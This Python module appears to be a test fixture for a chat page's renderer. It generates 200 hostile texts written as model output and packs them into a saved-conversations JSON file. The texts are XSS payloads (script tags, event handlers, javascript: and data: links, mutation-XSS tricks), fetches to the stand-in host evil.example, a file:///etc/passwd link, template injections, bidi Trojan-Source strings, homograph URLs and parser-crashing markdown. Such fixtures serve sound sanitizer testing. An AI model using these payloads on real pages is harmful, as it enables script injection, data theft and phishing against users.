"""What a model might write to do harm to the page that shows it: 200 texts.

Each that could run something would call `pwned()`, and each that could fetch something would ask
`evil.example`.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

RUN = "pwned()"
EVIL = "https://evil.example"

_HTML = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script\n>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{EVIL}/pixel.png'>",
    f'<img srcset="{EVIL}/a 1x" loading=eager>',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><use href="{EVIL}/x.svg#a"/></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data={EVIL}/x></object><embed src={EVIL}/y>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=dns-prefetch href={EVIL}><link rel=preconnect href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<style>@import '{EVIL}/x.css'; body{{background:url({EVIL}/b.png)}}</style>",
    f"<div style='background:url({EVIL}/d.png)'>x</div>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video autoplay onloadstart={RUN}><source src={EVIL}/v.mp4></video>",
    f"<audio src={EVIL}/a.mp3 autoplay>",
    f"<form action={EVIL}><button>Send</button></form>",
    f"<a href='javascript:{RUN}'>press</a>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"</div></article></main><script>{RUN}</script>",
    f"</textarea></title></style><img src=x onerror={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"<x-element is=script onpointerenter={RUN}>x</x-element>",
]

_LINKS = [
    f"[press](javascript:{RUN})",
    f"[press](JaVaScRiPt:{RUN})",
    f"[press]( javascript:{RUN})",
    f"[press](java\nscript:{RUN})",
    f"[press](java\tscript:{RUN})",
    f"[press](\x01javascript:{RUN})",
    f"[press](&#106;avascript:{RUN})",
    f"[press](javascript&colon;{RUN})",
    f"[press](%6aavascript:{RUN})",
    f"[press](<javascript:{RUN}>)",
    f"[press](vbscript:{RUN})",
    f"[press](data:text/html,<script>{RUN}</script>)",
    "[press](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[press](data:image/svg+xml,<svg onload='pwned()'/>)",
    "[press](blob:https://evil.example/1)",
    "[press](file:///etc/passwd)",
    "[press](filesystem:https://evil.example/temporary/x)",
    "[press](about:blank)",
    "[press](view-source:https://evil.example)",
    "[press](ws://evil.example/)",
    "[press](mailto:someone@evil.example?subject=x)",
    f'[press]({EVIL}/" onmouseover="{RUN})',
    f'[press]({EVIL} "title\\" onclick={RUN}")',
    f"[press]({EVIL}/'onclick='{RUN}')",
    "[press](//evil.example/x)",
    "[press](/\\evil.example/x)",
    "[press](../../page/config)",
    "[press](https://good.example@evil.example/)",
    "[good.example](https://evil.example/)",
    f"[![x]({EVIL}/i.png)]({EVIL}/l)",
    f"![x]({EVIL}/i.png)",
    f"![x](javascript:{RUN})",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4=)",
    f"![x{'](' * 20}{EVIL}/i.png)",
    f"<javascript:{RUN}>",
    f"<{EVIL}/?<script>{RUN}</script>>",
    f'{EVIL}/"><script>{RUN}</script>',
    f"{EVIL}/<img src=x onerror={RUN}>",
    f"[ref]\n\n[ref]: javascript:{RUN}",
    f"[ref][]\n\n[ref]: {EVIL} '<script>{RUN}</script>'",
]

_CODE = [
    f"```html\n<script>{RUN}</script>\n```",
    f"```<script>{RUN}</script>\nx\n```",
    f'```"onclick={RUN} x="\nx\n```',
    f"```\n```\n<script>{RUN}</script>\n```",
    f"````\n```\n<img src=x onerror={RUN}>",
    f"~~~js\n{RUN}",
    f"`<img src=x onerror={RUN}>`",
    f"``` `<svg onload={RUN}>` ```",
    f"`` `{RUN} ``` `` ` <b>",
    f"    <script>{RUN}</script>",
    "`" * 3000,
    "`" * 999 + f"<script>{RUN}</script>" + "`" * 998,
    f"${{{RUN}}} `${{{RUN}}}` {{{{constructor.constructor('{RUN}')()}}}}",
    f"<%= {RUN} %> #{{{RUN}}} {{% {RUN} %}} {{{{ {RUN} }}}}",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ $\\includegraphics{{{EVIL}/x.png}}$",
    f'```mermaid\ngraph TD; A-->B; click A "javascript:{RUN}"\n```',
]

_BROKEN = [
    "**" * 4000,
    "*a " * 2000,
    "_a*" * 3000,
    "[" * 8000,
    "[a](" * 3000,
    "![" * 4000,
    "](" * 4000,
    "<" * 8000,
    ">" * 500 + f" <script>{RUN}</script>",
    "> " * 400 + "x",
    "- " * 400 + f"<img src=x onerror={RUN}>",
    "\n".join(" " * (2 * depth) + "- x" for depth in range(200)),
    "\n".join(" " * (3 * depth) + f"{depth + 1}. <b onclick={RUN}>" for depth in range(100)),
    "1. " * 300,
    "999999999999999999. x\n0. y",
    "#" * 5000,
    "# " * 2000,
    "|" * 5000 + "\n" + "|-" * 2500,
    "|a|b|\n|-|-|\n" + "|x" * 3000,
    f"|<script>{RUN}</script>|\n|---|\n|<img src=x onerror={RUN}>|",
    f"|[x](javascript:{RUN})|\n|-|\n|![x]({EVIL}/t.png)|",
    "~~" * 4000,
    "\\" * 8000,
    "&" * 2000 + "&amp;lt;script>",
    "x" * 100_000,
    "word " * 20_000,
    "\n" * 5000,
    " " * 20_000 + "x",
    "\t" * 3000 + f"<script>{RUN}</script>",
    "\r\n\r\r\n" * 500,
    "\x00\x01\x02\x08\x0b\x1b[31mred\x1b[0m",
    "\ufeff<script>pwned()</script>",
    "--- \n" * 500,
    "***bold *and** italic* `and **code*` ~~and_ more~~",
    "[a [b [c](https://evil.example/1)](https://evil.example/2)](https://evil.example/3)",
    "*" * 9999 + "a" + "*" * 9999,
]

_DIRECTIONS = [
    "\u202egnp.tac\u202c a picture",
    f"\u202e<script>{RUN}</script>",
    "https://good.example/\u202emoc.live//:sptth",
    "[\u202emoc.doog\u202c](https://evil.example/)",
    "\u2066\u2067\u2068\u2069\u202a\u202b\u202d" * 200,
    "if access_level != 'user\u202e \u2066// Check if admin\u2069 \u2066' {",
    "```\naccess = 'user\u202e\u2066 # admin\u2069\u2066'\n```",
    "שלום **עולם** <b>x</b> \u200f\u200e",
    "مرحبا [رابط](https://evil.example/\u202e)",
    "Z" + "\u0300\u0489" * 3000,
    "\u200b\u200c\u200d\u2060" * 1000 + f"<script>{RUN}</script>",
    "👩‍👩‍👧‍👦" * 1000,
    "ﷺ﷽" * 500,
    "\ud7ff\ue000\ufffd\uffff",
    "https://xn--e1awd7f.example/ https://аррӏе.example/",
    "a\u2028b\u2029c\u0085d",
]

_TEXTS = [*_HTML, *_LINKS, *_CODE, *_BROKEN, *_DIRECTIONS]


def hostile_texts() -> list[str]:
    """200 texts: those above, and some of them inside other markdown."""
    found = [*_TEXTS, *_wrapped()]
    assert len(set(found)) == len(found)
    return found[:200]


def _wrapped() -> Iterator[str]:
    wraps = ("- {}", "> {}", "**{}**", "# {}", "| a |\n|---|\n| {} |", "1. a\n   - {}", "[{}]({})")
    for place, text in enumerate(text for text in [*_HTML, *_LINKS] if "\n" not in text):
        yield wraps[place % len(wraps)].replace("{}", text)


def conversations_file(texts: list[str]) -> str:
    """A file of conversations as the page saves them, with each text as an answer."""
    conversations = []
    for start in range(0, len(texts), 20):
        nodes: dict[str, dict[str, object]] = {}
        before = None
        for place, text in enumerate(texts[start : start + 20]):
            for role, content in (("user", f"number {start + place}"), ("assistant", text)):
                name = f"{role}{place}"
                node = {"id": name, "parent": before, "children": [], "role": role}
                nodes[name] = {**node, "content": content, "model": text[:100], "finish": "stop"}
                if before is not None:
                    nodes[before]["children"] = [name]
                before = name
        title = f"hostile <b onclick=pwned()> {start}"
        conversations.append({"id": str(start), "title": title, "nodes": nodes, "roots": ["user0"]})
    file = {"format": "homespun-conversations", "schema": 1, "conversations": conversations}
    return json.dumps(file)
